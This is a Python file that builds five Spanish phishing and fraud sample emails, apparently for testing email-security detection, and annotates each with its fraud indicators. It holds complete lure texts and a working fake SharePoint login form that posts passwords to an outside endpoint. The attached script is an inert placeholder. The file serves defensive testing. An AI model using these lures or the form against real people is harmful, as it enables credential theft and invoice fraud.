"""Attack messages, Spanish (5)."""

from codes import iban_print
from company import S, BANK, VAT
from core import Msg, alt, plain, mixed, att_pdf, att_html, att_zip
from systems import Exim, ExchangeOnline, OwnPostfix, SES, Mailjet


def a27():
    url = "https://sede-agenciatributaria.com.es/dehu/notificacion?ref=2026GR4471093&nif=" + VAT["example_es"]
    text = """Le informamos de que tiene a su disposición una notificación electrónica de la Agencia Estatal de Administración Tributaria en la Dirección Electrónica Habilitada única (DEHú).

Titular: EXAMPLE INGENIERIA Y ARQUITECTURA SL
NIF: %s
Procedimiento: Requerimiento de información - IVA, 3T 2026
Referencia: 2026GR4471093

Dispone de un plazo de diez días naturales desde la puesta a disposición para acceder a su contenido. Transcurrido dicho plazo sin que se haya accedido, la notificación se entenderá rechazada y se continuará con el procedimiento (art. 43 de la Ley 39/2015).

[[Acceder a la notificación|%s]]

Agencia Tributaria
Este es un mensaje automático. Por favor, no responda a este correo.""" % (VAT["example_es"], url)
    z = att_zip("AEAT_Notificacion_2026GR4471093.zip",
                [("AEAT_Notificacion_2026GR4471093.pdf.vbs", "inert placeholder - evaluation sample, no executable content\n",
                  (2026, 10, 26, 9, 31, 2))], seed="a27")
    return Msg("aeat-dehu-notificacion", "2026-10-26 10:44:08",
               Exim(host="ns3142.servidoresdns.net", host_ip="217.76.156.142", via="phpmailer",
                    cpuser="clinicas", site="clinicadentalsanroque.es", zone="CET"),
               ("Agencia Tributaria", "notificaciones@clinicadentalsanroque.es"), [S("fernandez")],
               "Aviso de puesta a disposición de notificación - Ref. 2026GR4471093",
               mixed(alt(text.replace("Dispone de un plazo", "Se adjunta copia del acuse de puesta a disposición.\n\nDispone de un plazo"),
                         "iso-8859-1", "quoted-printable", hstyle="generic", pstyle="colon", lang="es"), z),
               hcs="iso-8859-1", hmode="Q",
               what="'Agencia Tributaria' notice that a tax notification is waiting in DEHú, with a link to open it and a ZIP 'copy' attached.",
               why="Tax-office phishing/malware: sent with PHPMailer from a compromised dental clinic's website (cPanel), link to sede-agenciatributaria.com.es instead of agenciatributaria.gob.es / dehu.redsara.es, "
                   "plus an unencrypted ZIP holding a VBScript disguised as PDF (.pdf.vbs); deadline and legal reference to create pressure.",
               technique="credential phishing: national tax office (AEAT / DEHú); ZIP with disguised script (.pdf.vbs); compromised website (PHPMailer)")


def a28():
    text = """Hola Álvaro:

Te adjuntamos tu carta de revisión salarial 2027 con el detalle de la actualización de tu retribución fija y variable, que se aplicará a partir de la nómina de enero.

Por motivos de confidencialidad el documento está protegido: ábrelo en el navegador e inicia sesión con tu cuenta corporativa para verlo. Te rogamos que lo firmes antes del 5 de diciembre.

Un saludo,
Departamento de RR. HH."""
    page = """<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><title>SharePoint - Documento protegido</title>
<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}
.top{background:#036c70;color:#fff;padding:12px 20px;font-size:16px}
.card{width:420px;margin:60px auto;background:#fff;padding:36px;box-shadow:0 1px 4px rgba(0,0,0,.2)}
input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #8a8886;margin:8px 0}
button{width:100%;padding:10px;background:#0078d4;color:#fff;border:0;font-size:15px}</style></head>
<body><div class="top">SharePoint</div>
<div class="card">
<p style="font-size:20px;font-weight:600">Revision_Salarial_2027_Alvaro_Nunez.pdf</p>
<p>Este documento está protegido. Inicie sesión con su cuenta de trabajo para verificar su identidad.</p>
<form method="post" action="https://rrhh-documentos.azurewebsites.net/api/verify">
<input type="email" name="user" value="alvaro.nunez@example.com">
<input type="password" name="pass" placeholder="Contraseña">
<button type="submit">Ver documento</button>
</form>
<p style="font-size:11px;color:#605e5c">Protegido por Microsoft Purview Information Protection</p>
</div></body></html>
"""
    return Msg("revision-salarial-html-sharepoint", "2026-12-01 09:17:22",
               ExchangeOnline(domain="construccionesaltamira.es", pod="DB9PR02MB7412", region="eurprd02", lang="es-ES",
                              helo="EUR02-DB5-obe.outbound.protection.outlook.com",
                              rdns="mail-db5eur02on2131.outbound.protection.outlook.com", ip="40.107.249.131"),
               ("Departamento de RR. HH.", "m.soto@construccionesaltamira.es"), [S("nunez")],
               "Revisión salarial 2027 - documento confidencial para Álvaro Núñez",
               mixed(alt(text, "iso-8859-1", "quoted-printable", lang="es"),
                     att_html("Revision_Salarial_2027_Alvaro_Nunez.html", page)),
               hcs="iso-8859-1", hmode="Q",
               what="'RR. HH.' sends the employee his 'salary review 2027' as an HTML attachment that requires signing in.",
               why="HR-themed credential phishing from a compromised third-party Microsoft 365 tenant (construccionesaltamira.es has nothing to do with Example Group's HR); "
                   "the HTML attachment is a fake SharePoint/Microsoft sign-in posting the password to an azurewebsites.net endpoint. Contrast business/28 (real salary-review process).",
               technique="HTML attachment (credential form); HR / salary lure; compromised third-party Microsoft 365 tenant")


def a29():
    acc = iban_print(BANK["gil_fake"])
    text = """Buenos días Lucía:

Le adjuntamos la factura F-2026/0942 correspondiente al transporte de equipos de topografía Madrid–Valencia del pasado 3 de noviembre.

Le rogamos tenga en cuenta que, por cambio de entidad bancaria, a partir de esta factura los pagos deben realizarse en nuestra nueva cuenta, tal y como figura en el documento adjunto. La cuenta del Banco Sabadell queda cancelada y ya no admite abonos.

Le agradeceríamos que nos confirme por este medio la fecha prevista de pago.

Un saludo,

Administración
Transportes Hermanos Gil S.L.
Polígono Industrial Los Olivos, C/ Calidad 14 – 28906 Getafe (Madrid)"""
    pdf = att_pdf("Factura_F-2026-0942.pdf", [
        ("h", "TRANSPORTES HERMANOS GIL S.L."), ("s", "CIF B84123769 | Pol. Ind. Los Olivos, C/ Calidad 14 | 28906 Getafe (Madrid)"), "",
        ("b", "FACTURA  F-2026/0942                     Fecha: 16/11/2026"), "",
        "Cliente: Example Ingeniería y Arquitectura S.L. - CIF " + VAT["example_es"],
        "Calle de Orense 34, 28020 Madrid", "",
        "Concepto                                                   Importe",
        "Transporte equipos topografía Madrid - Valencia (03/11/2026)     1.380,00 EUR",
        "Seguro mercancía                                                   45,00 EUR",
        "Base imponible                                                 1.425,00 EUR",
        "IVA 21 %                                                         299,25 EUR",
        ("b", "TOTAL FACTURA                                                  1.724,25 EUR"), "",
        "Forma de pago: transferencia a 30 días",
        ("b", "NUEVA CUENTA: " + acc + "  (BIC REVOLT21)"),
    ], title="Factura F-2026/0942", producer="Microsoft\u00ae Excel\u00ae para Microsoft 365", created="20261116102233+01'00'")
    return Msg("transportes-gil-factura-iban-nuevo", "2026-11-18 12:05:33",
               OwnPostfix(server="mail.transportes-gil.com", server_ip="161.97.92.58",
                          server_rdns="vmi2274831.contaboserver.net", client="outlook",
                          client_helo="PC-ADMIN", client_ip="212.102.35.219", zone="CET"),
               ("Administración Transportes Gil", "administracion@transportes-gil.com"), [S("fernandez")],
               "Factura F-2026/0942 y nuevos datos bancarios",
               mixed(alt(text, "windows-1252", "quoted-printable", lang="es"), pdf),
               hcs="windows-1252", hmode="Q",
               what="'Transportes Hermanos Gil' sends an invoice whose PDF carries a new Lithuanian (Revolut) IBAN; the old Sabadell account is 'cancelled'.",
               why="Invoice/bank-detail fraud: look-alike transportes-gil.com (real: transportesgil.es, hosted on Google Workspace) on a Contabo VPS, Spanish carrier suddenly paid via a Lithuanian fintech IBAN, "
                   "confirmation requested by e-mail only. Contrast business/27 (genuine invoice with the Sabadell account).",
               technique="BEC invoice with changed IBAN; look-alike domain (VPS); PDF")


def a30():
    url = "https://coam-tramites.es/visado/acceso?exp=26-08817&col=17408"
    text = """Estimado/a colegiado/a:

En relación con el expediente de visado 26/08817 (Proyecto básico y de ejecución – edificio de 48 viviendas, garaje y trasteros, Valdebebas, Madrid), el Servicio de Visado ha detectado las siguientes deficiencias documentales:

- Firma electrónica no válida en la memoria de cumplimiento del DB-SE (Seguridad estructural).
- Falta el Estudio de Gestión de Residuos firmado por el promotor.

Dispone de 72 horas para subsanar las deficiencias a través de Visado Telemático. En caso contrario, el expediente será archivado y deberá iniciar una nueva solicitud con el abono de los derechos correspondientes.

[[Acceder a Visado Telemático|%s]]

Atentamente,
Servicio de Visado
Colegio Oficial de Arquitectos de Madrid""" % url
    return Msg("coam-visado-subsanacion", "2026-11-03 11:56:40", SES(),
               ("COAM – Servicio de Visado", "visado@coam-tramites.es"), [S("nunez")],
               "Requerimiento de subsanación – expediente de visado 26/08817 – plazo 72 h",
               alt(text, "UTF-8", "quoted-printable", hstyle="generic", pstyle="colon", lang="es"),
               hcs="UTF-8", hmode="Q",
               what="'Architects' association of Madrid' says a building-permit visa file is deficient and must be corrected within 72 h via a login link.",
               why="Trade-specific credential phishing: look-alike coam-tramites.es via Amazon SES imitating the COAM professional-visa service, plausible technical deficiencies, "
                   "72-hour archiving threat, link to a fake login that harvests the architects' portal credentials.",
               technique="credential phishing: trade-specific portal (COAM Visado); bulk ESP (Amazon SES)")


def a31():
    url = "https://bbva-netcash-empresas.es/renovar?ref=NC-7718-EX&c=" + VAT["example_es"]
    text = """Estimado cliente:

Le recordamos que el certificado de firma asociado a su contrato BBVA Net cash (referencia NC-7718-EX) caduca el 15/12/2026.

Para evitar el bloqueo de las órdenes de pago, transferencias y remesas de nóminas, debe renovarlo antes de esa fecha. Por su seguridad, la renovación solo puede completarse desde su dispositivo móvil: escanee el código QR del documento adjunto y siga las instrucciones.

Atentamente,
BBVA Empresas
Servicio de Atención a Clientes de Banca Electrónica"""
    pdf = att_pdf("BBVA_Netcash_Renovacion_Certificado.pdf", [
        ("h", "BBVA  Net cash"), ("s", "Banca electrónica para empresas"), "",
        ("b", "Renovación obligatoria del certificado de firma"), "",
        "Contrato: NC-7718-EX", "Titular: EXAMPLE INGENIERIA Y ARQUITECTURA SL",
        "Fecha de caducidad: 15/12/2026", "",
        "Escanee el código QR con la cámara de su móvil para renovar el certificado.",
        "El proceso dura menos de 3 minutos.", "",
        "Si no renueva antes de la fecha indicada, las órdenes de pago y las",
        "remesas de nóminas quedarán bloqueadas.", "", "", "", "", "", "", "", "", "", "", "",
        ("s", "BBVA - Banco Bilbao Vizcaya Argentaria, S.A. - Plaza de San Nicolás 4, 48005 Bilbao"),
    ], title="Renovación certificado", producer="Skia/PDF m131", created="20261209184412+01'00'",
        qr_text=url, qr_pos=(56, 470), qr_size=170)
    m = Msg("bbva-netcash-qr-pdf", "2026-12-10 08:29:14", Mailjet(),
            ("BBVA Empresas", "avisos@bbva-netcash-empresas.es"), [S("fernandez")],
            "BBVA Net cash: renovación obligatoria de su certificado de firma",
            mixed(plain(text, "UTF-8", "quoted-printable"), pdf),
            hcs="UTF-8", hmode="Q",
            what="'BBVA Empresas' asks to renew the Net cash signing certificate by scanning a QR code in the attached PDF.",
            why="Quishing via PDF: the phishing URL exists only as a QR code drawn inside the PDF (evades link scanning and moves the victim to a phone), look-alike bbva-netcash-empresas.es via Mailjet, "
                "threat of blocked payments and payroll.",
            technique="quishing (QR code in PDF); bank impersonation; bulk ESP (Mailjet)")
    m.qr_url = url
    return m


def messages():
    return [a27(), a28(), a29(), a30(), a31()]
